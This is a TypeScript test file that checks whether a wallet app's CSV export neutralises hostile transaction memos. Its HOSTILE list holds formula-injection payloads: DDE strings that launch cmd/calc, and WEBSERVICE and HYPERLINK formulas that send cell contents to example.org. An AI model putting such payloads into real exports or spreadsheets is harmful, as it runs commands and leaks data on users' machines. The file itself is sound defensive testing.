// Memos are what strangers write: no spreadsheet may run one, and none may look like a cell or a row of its own.

import { runs } from '@wallet-companion/base/test/atLength';
import test, { type ExecutionContext } from 'ava';
import fc from 'fast-check';
import { harmless } from '../../src/books/harmless.ts';
import type { Line } from '../../src/books/ledger.ts';
import { FORMATS } from '../../src/books/write.ts';
import { carelessCells, readCsv } from '../helpers/csvReader.ts';

const { head, body } = FORMATS.csv;
const CSV_HEADER = head({ zone: 'UTC', opening: 0 });
const csvLine = (line: Line): string => body([line], { zone: 'UTC' });

const row = (memo: string): Line => ({
  time: '2026-01-02T03:04:05.000Z',
  height: 5,
  txid: 'ab'.repeat(32),
  account: 0,
  pool: 'orchard',
  received_zatoshi: 150_000_000,
  sent_zatoshi: 0,
  fee_zatoshi: null,
  memos: [{ text: memo }],
  labels: [memo],
  counterparties: [],
  references: [memo],
  confirmations: 7,
  verified_with: 'node',
  balance_zatoshi: 150_000_001,
});

const HOSTILE = [
  '=1+1',
  '+1',
  '-1',
  "@SUM(1+1)*cmd|' /C calc'!A0",
  "=cmd|' /C calc'!A0",
  '=HYPERLINK("http://example.org/?"&A1,"click")',
  '=WEBSERVICE("http://example.org/"&A1)',
  '=DDE("cmd";"/C calc";"x")',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  '\r\n=1+1',
  ' =1+1',
  '\u00a0=1+1',
  '\u3000=1+1',
  '\ufeff=1+1',
  '\u200b=1+1',
  '\u202e=1+1',
  '\u2066-1\u2069',
  '\uff1d1+1',
  '\uff0b1',
  '\uff0d1',
  '\uff20SUM(1)',
  '\u22121',
  '"=1+1',
  '",=1+1,"',
  '"",=1+1',
  '";=1+1;"',
  "';=1+1",
  'a,=1+1',
  'a;=1+1',
  'a;  =1+1',
  'a|=1+1',
  'a\t=1+1',
  'a\n2026-01-01,1,aa,0,orchard,1000.00000000,0,,x,1000.00000000\n',
  'a\u2028=1+1',
  'a\u0085=1+1',
  'a\u0000=1+1',
  '\u0000=1+1',
  '\u001b]0;title\u0007=1',
  '%0A=1+1',
  "'=1+1",
  '\u201c=1+1',
  ';+SUM(A1:A9)',
  '--1',
  '\\=1+1',
] as const;

const STARTS_A_FORMULA = /^\s*"?\s*[=+\-@\u2212\uff1d\uff0b\uff0d\uff20]/u;
const SEPARATORS = [/,/, /;/, /\|/, /\t/, /[,;|\t]/];

/** What a spreadsheet would see as the beginning of a cell, once it has taken the quotes away. */
const unquoted = (cell: string): string => cell.trim().replace(/^"+/, '').trimStart();

const isHarmless = (t: ExecutionContext, memo: string) => {
  const text = CSV_HEADER + csvLine(row(memo));
  const records = readCsv(text);
  t.is(records.length, 2, memo);
  const [header, cells] = records;
  t.is(cells!.length, header!.length, memo);
  t.deepEqual(cells!.toSpliced(8, 1).toSpliced(9, 1).toSpliced(10, 1), [
    '2026-01-02T03:04:05.000Z',
    '5',
    'ab'.repeat(32),
    '0',
    'orchard',
    '1.50000000',
    '0.00000000',
    '',
    '1.50000001',
    '',
    '7',
    'node',
    '',
    '2026-01-02T03:04:05+00:00',
    ...Array(6).fill(''),
  ]);
  // Whatever it splits at, and whether it honours quotes or not.
  for (const cell of SEPARATORS.flatMap((separator) => carelessCells(text, separator)))
    t.true(
      !/^[=+\-@\u2212\uff1d\uff0b\uff0d\uff20]/u.test(unquoted(cell)),
      `${JSON.stringify(memo)}: ${cell}`,
    );
  t.true(!/[\p{Cc}\p{Cf}\p{Zl}\p{Zp}]/u.test(cells![8]! + cells![10]! + cells![12]!), memo);
};

for (const [place, memo] of HOSTILE.entries()) {
  test(`hostile memo ${place} is one harmless cell`, (t) => {
    isHarmless(t, memo);
    t.notRegex(harmless(memo), STARTS_A_FORMULA);
  });
}

test('whatever a memo is made of, it is one harmless cell', (t) => {
  const piece = fc.constantFrom(
    ...'=+-@,;|"\' \t\r\n\u0000\u00a0\uff1d\u2212\u202e\u2028ab1é',
    '\r\n',
    '\u{1f600}',
  );
  fc.assert(
    fc.property(fc.array(piece, { maxLength: 12 }), (pieces) => isHarmless(t, pieces.join(''))),
    { numRuns: runs(200, 2_000) },
  );
});

test('an ordinary memo is left as it is', (t) => {
  for (const memo of [
    'Invoice 12-3, thank you!',
    'https://example.org/a?b=c&d=e',
    'someone@example.org',
    '1 + 1 = 2',
    'שלום',
    'naïve “quoted” text',
    "O'Brien",
    '\u{1f600}',
  ])
    t.is(readCsv(csvLine(row(memo)))[0]![8], memo);
  t.is(readCsv(csvLine(row('two\nlines\there')))[0]![8], 'two\\nlines\\there');
  const several = { ...row(''), memos: [{ text: 'one' }, { hex: 'ff00' }], fee_zatoshi: 10_000 };
  t.deepEqual(readCsv(csvLine(several))[0]!.slice(7, 10), ['0.00010000', 'one / 0xff00', '1.50000001']);
});
